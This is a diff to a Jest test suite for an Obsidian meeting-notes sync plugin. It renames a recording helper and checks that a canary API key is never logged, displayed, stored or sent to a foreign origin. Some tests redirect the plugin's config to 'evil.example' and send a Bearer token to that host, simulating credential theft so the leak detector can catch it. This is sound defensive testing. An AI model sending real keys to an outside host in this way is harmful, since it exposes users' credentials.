@@ -5,7 +5,7 @@ import { Notice, requestUrl } from "../../support/obsidian";
 import { canary, echoesOf, holdsCanary } from "../../support/api/canary";
 import { ADDRESS, SECRET } from "../../support/plugin/plugin-fixture";
 import { wireAccount, wireDecision, wireMeeting, wirePage } from "../../support/api/wire-samples";
-import { overhear, type Overheard, type Reply } from "./overhear";
+import { startRecorded, type RecordedPlugin, type Reply } from "./recorded-plugin";
 
 afterEach(() => void jest.restoreAllMocks());
 
@@ -13,16 +13,16 @@ const ORIGIN = new URL(ADDRESS).origin;
 const echo = echoesOf(canary).join(" ");
 
 /** The plugin on a device whose user confirmed the address. */
-async function connected({ key = canary, patience = 5_000 } = {}): Promise<Overheard> {
-  const overheard = await overhear({ data: { baseUrl: ADDRESS }, key, patience });
-  const { screen, until } = overheard;
+async function connected({ key = canary, timeout = 5_000 } = {}): Promise<RecordedPlugin> {
+  const recorded = await startRecorded({ data: { baseUrl: ADDRESS }, key, timeout });
+  const { screen, until } = recorded;
   await until(() => screen.has("Confirm the new address"));
   await screen.press("Confirm the new address");
-  return overheard;
+  return recorded;
 }
 
-async function expectSecrecy({ told, sent }: Overheard): Promise<void> {
-  const traces = (await told()).split("\n").filter(holdsCanary);
+async function expectSecrecy({ output, sent }: RecordedPlugin): Promise<void> {
+  const traces = (await output()).split("\n").filter(holdsCanary);
   expect(traces).toEqual([]);
   for (const { headers, ...rest } of sent) {
     expect(new URL(rest.url).origin).toBe(ORIGIN);
@@ -66,20 +66,20 @@ const failures: readonly (readonly [what: string, reply: Reply])[] = [
   ["no answer", silence],
 ];
 
-describe("The key is told to nobody when there comes", () => {
+describe("The key is never shown, logged or stored when the response is", () => {
   it.each(failures)("%s", async (_, reply) => {
-    const overheard = await connected({ patience: reply === silence ? 100 : 5_000 });
-    const { screen, run, app } = overheard;
+    const recorded = await connected({ timeout: reply === silence ? 100 : 5_000 });
+    const { screen, run, app } = recorded;
     await run("open-status");
-    overheard.reply = reply;
+    recorded.reply = reply;
     await screen.press("API key", "Check");
     await run("sync-now");
-    overheard.reply = (request) => (isAuth(request) ? ordinary : reply)(request);
+    recorded.reply = (request) => (isAuth(request) ? ordinary : reply)(request);
     await run("full-sync");
     await screen.press("Advanced");
     await screen.press("Diagnostic report");
-    await expectSecrecy(overheard);
-    expect(overheard.sent.length).toBeGreaterThan(2);
+    await expectSecrecy(recorded);
+    expect(recorded.sent.length).toBeGreaterThan(2);
     expect(app.statusBarEl.textContent).toMatch(/failed/);
   });
 });
@@ -93,86 +93,89 @@ function telling(text: string, at: number): Record<string, unknown> {
 }
 
 describe("A service that repeats the key", () => {
-  it("in meetings gets it into no note, name or record", async () => {
-    const overheard = await connected();
-    const { run, screen, notes } = overheard;
+  it("in meetings does not get it into a note, name or record", async () => {
+    const recorded = await connected();
+    const { run, screen, notes } = recorded;
     const account = wireAccount({ settings: { meetings_folder: echo, decisions_folder: echo, template_id: echo } });
     const page = wirePage([...echoesOf(canary).map(telling), wireMeeting({ id: canary })]);
-    overheard.reply = (request) => answering(isAuth(request) ? account : page)(request);
+    recorded.reply = (request) => answering(isAuth(request) ? account : page)(request);
     await screen.press("API key", "Check");
     await run("preview-sync");
     await run("sync-now");
     await run("open-status");
-    await expectSecrecy(overheard);
+    await expectSecrecy(recorded);
     expect(notes().filter((path) => path.includes("•••"))).toHaveLength(12);
   });
 
-  it("as the account's identifier is not believed", async () => {
-    const overheard = await connected();
-    overheard.reply = answering(wireAccount({ userId: canary }));
-    await overheard.screen.press("API key", "Check");
-    await overheard.run("sync-now");
-    await expectSecrecy(overheard);
+  it("as the account's identifier is rejected", async () => {
+    const recorded = await connected();
+    recorded.reply = answering(wireAccount({ userId: canary }));
+    await recorded.screen.press("API key", "Check");
+    await recorded.run("sync-now");
+    await expectSecrecy(recorded);
   });
 });
 
-describe("The key is not repeated, and asked for by nobody,", () => {
-  it.each([`${canary}\u0007`, `${canary} ключ`, canary.repeat(40)])("when it is none that can be sent", async (key) => {
-    const overheard = await overhear({ data: { baseUrl: ADDRESS }, key });
-    await overheard.screen.press("API key", "Check");
-    await overheard.run("sync-now");
-    await expectSecrecy(overheard);
-    expect(overheard.sent).toEqual([]);
-  });
+describe("The key is neither shown nor sent", () => {
+  it.each([`${canary}\u0007`, `${canary} ключ`, canary.repeat(40)])(
+    "when it cannot be sent in a header",
+    async (key) => {
+      const recorded = await startRecorded({ data: { baseUrl: ADDRESS }, key });
+      await recorded.screen.press("API key", "Check");
+      await recorded.run("sync-now");
+      await expectSecrecy(recorded);
+      expect(recorded.sent).toEqual([]);
+    },
+  );
 
   it("when another address or another secret came with the vault", async () => {
-    const overheard = await connected();
-    const { app, run, screen } = overheard;
-    overheard.reply = ordinary;
+    const recorded = await connected();
+    const { app, run, screen } = recorded;
+    recorded.reply = ordinary;
     await run("sync-now");
-    const before = overheard.sent.length;
+    const before = recorded.sent.length;
     app.secretStorage.setSecret("another", canary);
     for (const data of [{ baseUrl: "https://evil.example/api" }, { baseUrl: ADDRESS, apiKeySecret: "another" }]) {
       await app.vault.adapter.write(".obsidian/plugins/meeting-notes-sync/data.json", JSON.stringify(data));
-      await overheard.idle();
+      await recorded.idle();
       await run("sync-now");
       await screen.press("API key", "Check");
       await run("open-status");
     }
-    await expectSecrecy(overheard);
-    expect(overheard.sent).toHaveLength(before);
+    await expectSecrecy(recorded);
+    expect(recorded.sent).toHaveLength(before);
   });
 
-  it("when the plugin is switched off while the answer to a question is awaited", async () => {
-    const overheard = await connected();
-    const { app, plugin, screen, sent } = overheard;
+  it("when the plugin is disabled while it waits for a response", async () => {
+    const recorded = await connected();
+    const { app, plugin, screen, sent } = recorded;
     let answer: (() => void) | undefined;
-    overheard.reply = () => new Promise((resolve) => (answer = () => resolve({ status: 503 })));
+    recorded.reply = () => new Promise((resolve) => (answer = () => resolve({ status: 503 })));
     const pressed = screen.press("API key", "Check");
-    await overheard.until(() => answer !== undefined);
+    await recorded.until(() => answer !== undefined);
     app.plugins.disable(plugin);
     answer?.();
     await pressed;
     // More than the longest pause before another try.
     for (const start = Date.now(); Date.now() < start + 600_000;) await app.settled();
     expect(sent).toHaveLength(1);
-    await expectSecrecy(overheard);
+    await expectSecrecy(recorded);
   });
 
   it("when it was changed", async () => {
-    const overheard = await connected({ key: "the-key-that-was-there-before" });
-    overheard.reply = ordinary;
-    await overheard.run("sync-now");
-    overheard.app.secretStorage.setSecret(SECRET, canary);
-    overheard.reply = failing(401);
-    await overheard.run("sync-now");
-    const traces = (await overheard.told()).split("\n").filter((line) => /before/.test(line) || holdsCanary(line));
+    const recorded = await connected({ key: "the-key-that-was-there-before" });
+    recorded.reply = ordinary;
+    await recorded.run("sync-now");
+    recorded.app.secretStorage.setSecret(SECRET, canary);
+    recorded.reply = failing(401);
+    await recorded.run("sync-now");
+    const traces = (await recorded.output()).split("\n").filter((line) => /before/.test(line) || holdsCanary(line));
     expect(traces).toEqual([]);
   });
 });
 
-describe("A trace of the key would be noticed", () => {
-  it.each<[where: string, plant: (overheard: Overheard, text: string) => unknown]>([
+describe("The recording notices a trace of the key", () => {
+  it.each<[where: string, plant: (recorded: RecordedPlugin, text: string) => unknown]>([
     ["a notice that is gone", (_, text) => new Notice(text).hide()],
     ["the status bar", ({ app }, text) => app.statusBarEl.setText(text)],
     ["a label", ({ app }, text) => app.statusBarEl.setAttr("aria-label", text)],
@@ -190,16 +193,16 @@ describe("A trace of the key would be noticed", () => {
     ],
     ["a note", ({ app }, text) => app.vault.adapter.write("Note.md", text)],
   ])("in %s", async (_, plant) => {
-    const overheard = await connected();
-    expect(holdsCanary(await overheard.told())).toBe(false);
-    await plant(overheard, echo);
-    expect(holdsCanary(await overheard.told())).toBe(true);
+    const recorded = await connected();
+    expect(holdsCanary(await recorded.output())).toBe(false);
+    await plant(recorded, echo);
+    expect(holdsCanary(await recorded.output())).toBe(true);
   });
 
   it("on the way to another address", async () => {
-    const overheard = await connected();
-    overheard.reply = ordinary;
+    const recorded = await connected();
+    recorded.reply = ordinary;
     await requestUrl({ url: "https://evil.example", headers: { authorization: `Bearer ${canary}` } });
-    await expect(expectSecrecy(overheard)).rejects.toThrow(/evil/);
+    await expect(expectSecrecy(recorded)).rejects.toThrow(/evil/);
   });
 });
